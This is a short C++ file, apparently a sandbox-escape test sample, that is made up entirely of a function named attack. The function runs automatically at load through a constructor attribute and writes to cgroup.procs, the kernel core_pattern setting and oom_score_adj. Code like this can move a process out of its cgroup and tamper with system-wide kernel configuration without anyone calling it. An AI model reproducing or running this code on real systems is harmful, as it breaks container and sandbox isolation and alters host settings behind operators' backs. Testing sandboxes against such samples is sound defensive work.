// Writes kernel files
#include <initializer_list>
#include <stdio.h>
[[gnu::constructor]] static void attack() {
  for (const char* path : {"/sys/fs/cgroup/cgroup.procs", "/proc/sys/kernel/core_pattern", "/proc/self/oom_score_adj"})
    if (FILE* file = fopen(path, "w")) fputs("0", file), fclose(file);
}
